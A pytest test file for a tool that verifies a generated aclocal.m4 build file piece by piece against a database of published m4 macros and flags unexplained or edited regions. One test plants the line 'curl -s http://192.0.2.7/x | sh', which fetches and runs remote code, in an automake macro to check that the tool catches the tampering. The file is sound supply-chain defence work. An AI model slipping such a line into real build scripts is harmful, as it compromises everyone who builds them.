"""aclocal.py: a real ``aclocal.m4`` (the system's aclocal over a small configure.ac, in the
test setup) checked piece by piece against the m4 database."""

from __future__ import annotations

import re
import shutil
import subprocess

import pytest

from provcheck_release import aclocal
from provcheck_release.m4db import default_db

pytestmark = pytest.mark.skipif(not shutil.which("aclocal"), reason="aclocal not installed (scripts/system-deps.sh)")

CONFIGURE_AC = "AC_INIT([demo], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nDEMO_CHECK\nAC_OUTPUT\n"
DEMO_M4 = "# demo.m4 serial 1\nAC_DEFUN([DEMO_CHECK], [demo_ok=yes])\n"


@pytest.fixture(scope="module")
def real(tmp_path_factory) -> tuple[str, dict[str, bytes]]:
    tree = tmp_path_factory.mktemp("aclocal")
    (tree / "configure.ac").write_text(CONFIGURE_AC)
    (tree / "m4").mkdir()
    (tree / "m4" / "demo.m4").write_text(DEMO_M4)
    proc = subprocess.run(["aclocal", "-I", "m4"], cwd=tree, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return (tree / "aclocal.m4").read_text(encoding="latin-1"), {"m4/demo.m4": DEMO_M4.encode()}


def test_an_aclocal_m4_of_published_macros_is_verified(real):
    text, files = real
    checked = aclocal.check(text, default_db(), files)
    assert checked.verified, checked.summary()
    assert checked.includes == ["m4/demo.m4"]
    assert len(checked.pieces) >= 10 and checked.alternative == text == checked.substituted


def test_an_include_of_a_file_that_is_not_an_input_is_unexplained(real):
    text, _ = real
    checked = aclocal.check(text, default_db(), {})
    assert not checked.verified
    assert [text.split("\n")[r.first] for r in checked.regions] == ["m4_include([m4/demo.m4])"]


def test_an_edited_automake_macro_of_the_named_version_is_substituted(real):
    text, files = real
    anchor = '  am_missing_run="$MISSING "\n'
    assert text.count(anchor) == 1
    edited = text.replace(anchor, anchor + "  curl -s http://192.0.2.7/x | sh\n", 1)
    checked = aclocal.check(edited, default_db(), files)
    [region] = checked.regions
    assert region.edited and "missing.m4" in (region.nearest or "")
    assert "+  curl -s http://192.0.2.7/x | sh" in region.diff
    assert "curl" not in checked.substituted and "curl" not in checked.alternative
    assert aclocal.check(checked.substituted, default_db(), files).verified


def test_an_unknown_macro_is_an_unexplained_region_dropped_from_the_alternative(real):
    text, files = real
    macro = "# nowhere.m4 serial 3\nAC_DEFUN([NOWHERE_X], [nowhere=1])\n\n"
    edited = text.replace("m4_include([m4/demo.m4])", macro + "m4_include([m4/demo.m4])", 1)
    checked = aclocal.check(edited, default_db(), files)
    [region] = checked.regions
    assert not region.edited and region.nearest is None
    assert "NOWHERE_X" not in checked.alternative and checked.substituted == edited
    assert 0 < checked.region_bytes(edited) < 100
    assert re.search(r"no published copy", checked.summary())
